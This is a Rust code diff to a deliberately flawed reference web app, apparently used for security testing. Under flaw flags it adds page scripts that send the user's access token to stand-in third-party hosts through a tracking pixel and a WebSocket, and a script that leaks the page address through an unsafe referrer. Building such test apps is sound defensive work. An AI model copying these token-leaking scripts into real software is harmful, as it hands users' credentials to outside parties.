@@ -21,14 +21,31 @@ pub(in crate::reference_app) async fn data(app: &App, request: &Request) -> Resp
     shown(app, &browser, request.parameter("view")).await
 }
 
+/// The records, on a page whose address a third party is told, as only a flawed app does.
+pub(super) async fn overheard(app: &App, browser: &Browser, view: &str) -> Response {
+    shown_with(app, browser, Some(view), Some(OVERHEARD)).await
+}
+
 pub(super) async fn shown(app: &App, browser: &Browser, view: Option<&str>) -> Response {
+    shown_with(app, browser, view, None).await
+}
+
+async fn shown_with(
+    app: &App,
+    browser: &Browser,
+    view: Option<&str>,
+    script: Option<&str>,
+) -> Response {
     let found = app.sessions().view(browser, view);
     let Some((id, view)) = found else {
         let trouble = Trouble::new("You are not signed in", "Please sign in.", WayOut::SignIn);
         return trouble_page(app, browser, &trouble, "/data");
     };
     match page(app, &id, &view).await {
-        Ok(page) => page.show(app, browser),
+        Ok(mut page) => {
+            page.script = script.map(str::to_owned).or(page.script);
+            page.show(app, browser)
+        }
         Err(Unshown::LogIn) => super::page::redirect(app, browser, "/log-in"),
         Err(Unshown::With(trouble)) => {
             if trouble.way_out == WayOut::SignIn {
@@ -86,6 +103,14 @@ async fn page(app: &App, id: &str, view: &View) -> Result<Page, Unshown> {
     if app.flawed(Flaw::TokenInCookie) {
         let token = tokens.access.expose();
         page.cookie = Some(format!("token={token}; Path=/"));
+    }
+    let token = tokens.access.expose();
+    if app.flawed(Flaw::TokenInPixel) {
+        page.script =
+            Some(format!("new Image().src = 'https://statistics.example/seen.gif?by={token}'"));
+    }
+    if app.flawed(Flaw::TokenInChat) {
+        page.script = Some(format!("new WebSocket('wss://chat.example/?as={token}')"));
     }
     if app.flawed(Flaw::TellsThirdParty) {
         page.script = Some("fetch('https://statistics.example/seen?page=data')".to_owned());
@@ -230,3 +255,6 @@ impl App {
         format!("/data?view={view}")
     }
 }
+
+const OVERHEARD: &str = "fetch('https://statistics.example/seen', { mode: 'no-cors', \
+    referrerPolicy: 'unsafe-url' }); history.replaceState({}, '', '/data')";
